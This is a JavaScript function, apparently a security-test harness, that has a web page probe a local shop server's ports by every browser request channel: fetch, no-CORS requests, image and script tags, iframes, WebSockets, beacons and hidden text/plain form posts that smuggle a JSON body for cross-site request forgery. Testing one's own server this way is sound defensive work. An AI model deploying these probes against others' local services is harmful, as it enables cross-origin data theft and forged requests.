// What a page tries on the shop's ports, in every way in which a browser sends requests.
// Returns what it could read, as a list of "how, URL, text".
async function attack(targets) {
  const read = [];
  const note = (how, url, text) => read.push(`${how} ${url}: ${String(text).slice(0, 20000)}`);
  const quietly = async (promise) => { try { return await promise; } catch { return undefined; } };
  const settled = (element, url) => new Promise((resolve) => {
    element.onload = () => resolve(true);
    element.onerror = () => resolve(false);
    setTimeout(() => resolve(undefined), 3000);
    element.src = url;
    document.body.append(element);
  });

  const fetched = async (how, url, options) => {
    const response = await quietly(fetch(url, options));
    if (response && response.type !== "opaque") note(how, url, await response.text());
  };

  const submitted = (url, body, isPopup) => new Promise((resolve) => {
    const name = isPopup ? "_blank" : `frame-${Math.random()}`;
    const frame = Object.assign(document.createElement("iframe"), { name });
    const form = Object.assign(document.createElement("form"), { action: url, method: "post", target: name });
    form.enctype = "text/plain";
    // The field's name and value are joined by "=", which stands in a text of the JSON document.
    const field = Object.assign(document.createElement("input"), { type: "hidden" });
    [field.name, field.value] = [`${body.slice(0, -1)},"ignored":"`, '"}'];
    form.append(field);
    document.body.append(frame, form);
    frame.onload = () => resolve();
    setTimeout(resolve, isPopup ? 500 : 3000);
    form.submit();
  });

  const connected = (url) => new Promise((resolve) => {
    try {
      const socket = new WebSocket(url.replace("http:", "ws:"));
      socket.onopen = () => { note("WebSocket", url, "open"); resolve(); };
      socket.onerror = resolve;
    } catch { resolve(); }
    setTimeout(resolve, 3000);
  });

  const tried = async ({ method, url, body, headers }) => {
    if (method === "GET") {
      await fetched("GET", url, {});
      await fetched("GET without CORS", url, { mode: "no-cors" });
      if (await settled(document.createElement("img"), url)) note("image", url, "loaded");
      if (await settled(document.createElement("script"), url)) note("script", url, "loaded");
      await settled(document.createElement("iframe"), url);
      await connected(url);
      window.open(url);
    } else {
      await fetched(method, url, { method, body, headers });
      await fetched(`${method} of JSON`, url, { method, body, headers: { ...headers, "Content-Type": "application/json" } });
      if (method === "POST" && !headers) {
        await fetched("POST without CORS", url, { method, body, mode: "no-cors" });
        navigator.sendBeacon(url, body);
        await submitted(url, body, false);
        await submitted(url, body, true);
      }
    }
  };
  await Promise.all(targets.map(tried));
  return read;
}
